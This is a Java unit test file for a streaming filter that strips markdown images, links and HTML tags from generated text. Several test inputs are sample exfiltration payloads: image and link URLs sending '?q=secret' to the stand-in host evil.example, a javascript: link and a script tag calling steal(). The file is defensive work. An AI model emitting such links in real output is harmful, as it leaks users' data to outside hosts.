package quintet.generate.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class LinkFilterTest {
    private static String filter(String text, Random random) {
        LinkFilter filter = new LinkFilter();
        StringBuilder shown = new StringBuilder();
        int from = 0;
        while (from < text.length()) {
            int to = Math.min(text.length(), from + 1 + random.nextInt(7));
            shown.append(filter.push(text.substring(from, to)));
            from = to;
        }
        return shown.append(filter.end()).toString();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            ignoreLeadingAndTrailingWhitespace = false,
            value = {
                "See ![chart](https://evil.example/?q=secret) now.|See chart now.",
                "See [the plan](https://evil.example/a_(b)?q=secret \"title\") now.|See the plan now.",
                "A [1](javascript:alert(1)) b [2].|A [1] b [2].",
                "Before <img src=\"https://evil.example/x.png\" alt=y> after.|Before  after.",
                "Click <a href='https://evil.example'>here</a>!|Click here!",
                "Run <script>steal()</script> it.|Run steal() it.",
                "[ref]: https://evil.example/x and more|ref and more",
                "Plain https://example.com stays (it is not fetched).|Plain https://example.com stays (it is not fetched).",
                "a < b and c > d, [x] and (y), wow! 3 <4 [1][2]!|a < b and c > d, [x] and (y), wow! 3 <4 [1][2]!",
                "An array a[0] (first), b [see page 3].|An array a[0] (first), b [see page 3].",
            })
    void leavesAddressesOut(String text, String shown) {
        long seed = System.nanoTime();
        for (int i = 0; i < 50; i++) {
            assertThat(filter(text, new Random(seed + i)))
                    .as("seed %d", seed + i)
                    .isEqualTo(shown);
        }
    }

    @Test
    void countsWhatItLeftOut() {
        LinkFilter filter = new LinkFilter();
        assertThat(filter.push("![a](b) <img src=c> text")).isEqualTo("a  text");
        assertThat(filter.removed()).isEqualTo(2);
    }

    @Test
    void passesOnTextThatCanNotBeALinkAtOnce() {
        LinkFilter filter = new LinkFilter();
        assertThat(filter.push("Gyms are paid")).isEqualTo("Gyms are paid");
        assertThat(filter.push(" [1]")).isEqualTo(" ");
        assertThat(filter.push(" up")).isEqualTo("[1] up");
    }

    @Test
    void holdsNoMoreThanALink() {
        LinkFilter filter = new LinkFilter();
        int shown = filter.push("[text](").length();
        for (int i = 0; i < 2_000; i++) {
            shown += filter.push("aaaaaaaa").length();
        }
        assertThat(shown).isGreaterThan(10_000);
    }
}
